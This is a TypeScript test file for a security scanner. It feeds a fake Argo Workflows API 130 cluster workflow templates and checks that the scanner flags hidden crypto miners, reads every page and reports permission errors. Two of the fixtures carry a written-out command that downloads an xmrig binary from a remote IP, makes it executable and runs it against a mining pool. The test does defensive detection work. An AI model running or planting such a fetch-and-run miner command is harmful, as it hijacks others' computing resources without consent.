// Argo ClusterWorkflowTemplates: cluster-scoped templates any namespace's workflow may run
// (`templateRef.clusterScope: true`), so a miner parked in one runs from everywhere. The list is
// GET /api/v1/cluster-workflow-templates (argo-workflows api/openapi-spec/swagger.json, operation
// ListClusterWorkflowTemplates, paged with listOptions.limit / listOptions.continue).
import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { argoRoutes } from '../../src/testing/fake-job-apis/argo.js';
import { startFakeJobApi, type FakeAnswer, type FakeJobApi, type FakeRoute } from '../../src/testing/fake-job-apis/server.js';
import { runCli } from '../helpers/cli.js';

const MINER = 'wget -q http://198.51.100.9/x/xmrig -O /tmp/tf && chmod +x /tmp/tf && /tmp/tf -o stratum+tcp://pool.supportxmr.com:443 --donate-level 1';

const servers: FakeJobApi[] = [];
after(async () => Promise.all(servers.map((s) => s.close())));
async function serve(routes: readonly FakeRoute[]): Promise<FakeJobApi> {
  const server = await startFakeJobApi(routes);
  servers.push(server);
  return server;
}
const on = (path: string, answer: FakeAnswer): FakeRoute => (url) => (url.pathname === path ? answer : undefined);

/** A ClusterWorkflowTemplate as the list returns it: no apiVersion/kind, no namespace. */
const clusterTemplate = (name: string, template: Record<string, unknown>) => ({
  metadata: { name, uid: `uid-${name}`, creationTimestamp: '2026-01-05T10:00:00Z' },
  spec: { entrypoint: 'main', templates: [{ name: 'main', ...template }] },
});
const workflow = { metadata: { name: 'train', namespace: 'argo', uid: 'u-train' }, spec: { entrypoint: 'main', templates: [{ name: 'main', container: { image: 'python:3.11', command: ['python', 'train.py'] } }] } };

type Report = { findings: { ruleId: string; severity: string; origin: Record<string, unknown> }[]; errors: unknown[]; coverage: { ruleId: string; source: string; reason: string }[]; extensions: { sourceStats: Record<string, number> } };

describe('kfguard hunt --argo: cluster workflow templates', () => {
  test('every page is read, whatever -n says; the miner (a container or a script template) is found with its UI link', async () => {
    const templates = Array.from({ length: 130 }, (_, i) =>
      clusterTemplate(`cwft-${i}`, i === 110 ? { container: { image: 'tensorflow/tensorflow:latest', command: ['sh', '-c'], args: [MINER] } } : i === 7 ? { script: { image: 'alpine:3.20', command: ['sh'], source: MINER } } : { container: { image: 'alpine:3.20', command: ['echo', 'hi'] } }),
    );
    const api = await serve(argoRoutes({ workflows: [workflow], clusterTemplates: templates }));
    const run = await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--format', 'json']);
    assert.equal(run.code, 1, run.stderr);
    const report = JSON.parse(run.stdout) as Report;
    const miners = report.findings.filter((f) => f.ruleId === 'crypto-miner-workload');
    assert.deepEqual(miners.map((f) => `${String(f.origin.endpoint)} ${String(f.origin.displayName)}`).sort(), ['/api/v1/cluster-workflow-templates cwft-110', '/api/v1/cluster-workflow-templates cwft-7']);
    assert.equal(miners.find((f) => f.origin.displayName === 'cwft-110')?.origin.uiLink, `${api.url}/cluster-workflow-templates/cwft-110`);
    assert.equal(report.extensions.sourceStats['argo cluster-workflow-templates'], 130);
    const listCalls = api.requests.filter((r) => r.path.startsWith('/api/v1/cluster-workflow-templates'));
    assert.equal(listCalls.length, 2, 'two pages');
    assert.ok(listCalls.every((r) => r.path.split('?')[0] === '/api/v1/cluster-workflow-templates'), 'no namespace in the cluster-scoped path');
    assert.ok(api.requests.every((r) => r.method === 'GET'));
    assert.deepEqual(report.errors, []);
  });

  test('an Argo Server before 2.8 (404) serves none: counted, not a gap; a 403 is a gap naming the list', async () => {
    const old = await serve([on('/api/v1/cluster-workflow-templates', { status: 404, body: { code: 5, message: 'Not Found' } }), ...argoRoutes({ workflows: [workflow] })]);
    const notServed = JSON.parse((await runCli(['hunt', '--argo', old.url, '-n', 'argo', '--format', 'json'])).stdout) as Report;
    assert.equal(notServed.extensions.sourceStats['argo cluster-workflow-templates (not served)'], 0);
    assert.deepEqual(notServed.coverage.filter((c) => c.source === 'api'), []);

    const refused = await serve([on('/api/v1/cluster-workflow-templates', { status: 403, body: { code: 7, message: 'clusterworkflowtemplates.argoproj.io is forbidden' } }), ...argoRoutes({ workflows: [workflow] })]);
    const run = await runCli(['hunt', '--argo', refused.url, '-n', 'argo', '--token', 't0ken', '--format', 'json']);
    assert.equal(run.code, 0, run.stderr);
    const report = JSON.parse(run.stdout) as Report;
    assert.match(report.coverage.map((c) => c.reason).join('\n'), /could not list cluster workflow templates: .*403 forbidden.*--token/);
  });
});
